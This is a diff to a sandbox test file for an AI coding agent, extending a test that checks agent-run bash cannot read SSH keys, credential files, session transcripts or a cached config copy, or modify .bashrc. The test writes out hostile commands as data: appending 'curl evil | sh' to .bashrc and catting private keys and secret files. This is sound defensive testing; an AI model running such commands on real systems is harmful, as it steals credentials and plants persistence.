@@ -11,6 +11,7 @@ import { type ParsedToolCall, ToolExecutor } from '@crystal/core';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { ApprovalRequest } from '../src/approval/index.js';
 import type { Config } from '../src/config/schema.js';
+import { homeConfigMemo } from '../src/index.js';
 import { homeToolsDir } from '../src/external-tools/index.js';
 import { assembleWorkspaceTools, type WorkspaceToolOptions } from '../src/workspace-tools.js';
 
@@ -174,7 +175,7 @@ describe('SBX-1 bash runs in the OS sandbox', () => {
     expect(result.text).toMatch(/\[sandbox\] .*\.ssh.*hidden inside the sandbox/);
   });
 
-  it('SBX-1 with the workspace containing Home (crystal started in ~) ~/.ssh and Home secrets stay unreadable', async () => {
+  it('SBX-1 with the workspace containing Home (crystal started in ~) ~/.ssh and Home secrets (the validated config copy too) stay unreadable', async () => {
     const f = fixture();
     const home = join(f.userHome, '.crystal');
     mkdirSync(join(home, 'sessions'), { recursive: true });
@@ -183,13 +184,17 @@ describe('SBX-1 bash runs in the OS sandbox', () => {
     writeFileSync(join(home, 'sessions', 's1.json'), '{"secret": "session-transcript"}\n');
     writeFileSync(join(f.userHome, 'readme.txt'), 'workspace file\n');
     writeFileSync(join(f.userHome, '.bashrc'), '# rc\n');
+    // Issue 22: the validated copy of config.json in Home's cache holds the same key.
+    const text = readFileSync(join(home, 'config.json'), 'utf8');
+    homeConfigMemo(home, 'b0b0b0b0b0b0b0b0')?.remember(join(home, 'config.json'), text, JSON.parse(text), []);
+    expect(readFileSync(join(home, 'cache', 'validated-config-b0b0b0b0b0b0b0b0.json'), 'utf8')).toContain('sk-in-home-config');
     const t = await tools({ ...f, home, workspace: f.userHome });
     // Start-up files of the account stay read-only: no persistence outside the next sandboxed call.
     const rc = await t.bash('echo "curl evil | sh" >> .bashrc');
     expect(rc.text).toMatch(/\.bashrc: Read-only file system/);
     expect(readFileSync(join(f.userHome, '.bashrc'), 'utf8')).toBe('# rc\n');
     const result = await t.bash(
-      'cat readme.txt; cat .ssh/id_rsa; cat .crystal/config.json; cat .crystal/credentials.json; cat .crystal/sessions/s1.json; echo x > .crystal/config.json; exit 1',
+      'cat readme.txt; cat .ssh/id_rsa; cat .crystal/config.json; cat .crystal/credentials.json; cat .crystal/sessions/s1.json; cat .crystal/cache/*; echo x > .crystal/config.json; exit 1',
     );
     expect(result.text).toContain('workspace file');
     for (const secret of ['PRIVATE KEY', 'sk-in-home-config', 'sk-in-credentials', 'session-transcript']) {
